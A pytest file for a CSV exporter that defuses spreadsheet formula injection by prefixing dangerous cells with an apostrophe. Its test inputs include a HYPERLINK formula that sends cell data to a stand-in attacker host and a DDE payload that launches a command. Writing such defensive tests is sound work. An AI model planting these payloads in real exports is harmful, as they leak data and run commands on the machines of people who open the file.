"""hub.admin.formula_safe_csv: no exported cell starts a spreadsheet formula; every other cell is kept."""

import csv
import io

import pytest
import tablib
from import_export.formats.base_formats import CSV

from hub.admin.formula_safe_csv import FormulaSafeCSV, neutralise

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "==1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "+cmd|'/C calc'!A0"],
)
def test_formula_starts_get_an_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["SO-1001", "Ada Lovelace", "a=b", "1+1", "2026-03-02T09:15:00-05:00", "", "'quoted"])
def test_other_text_is_kept(cell):
    assert neutralise(cell) == cell


def test_non_text_cells_are_kept():
    assert neutralise(None) is None
    assert neutralise(-5) == -5


def parse(text):
    return list(csv.reader(io.StringIO(text)))


def test_export_neutralises_every_cell_of_every_row():
    dataset = tablib.Dataset(headers=["order number", "ship to"])
    dataset.append(["SO-1", HYPERLINK])
    dataset.append(["@SO-2", "Grace Hopper"])
    dataset.append(["SO-3", "Ada, Countess of Lovelace"])
    rows = parse(FormulaSafeCSV().export_data(dataset))
    assert rows == [
        ["order number", "ship to"],
        ["SO-1", "'" + HYPERLINK],
        ["'@SO-2", "Grace Hopper"],
        ["SO-3", "Ada, Countess of Lovelace"],
    ]


def test_escaping_does_not_depend_on_the_librarys_setting(settings):
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = False
    dataset = tablib.Dataset(["+1+1"], headers=["cell"])
    assert parse(FormulaSafeCSV().export_data(dataset))[1] == ["'+1+1"]


def test_the_librarys_own_escaping_is_not_enough(settings):
    """Why hub has its own rule (django-import-export 4.4): its switch strips one "=" only."""
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True
    dataset = tablib.Dataset(["==1+1"], ["+1+1"], ["@SUM(A1)"], headers=["cell"])
    assert [row[0] for row in parse(CSV().export_data(dataset))[1:]] == ["=1+1", "+1+1", "@SUM(A1)"]
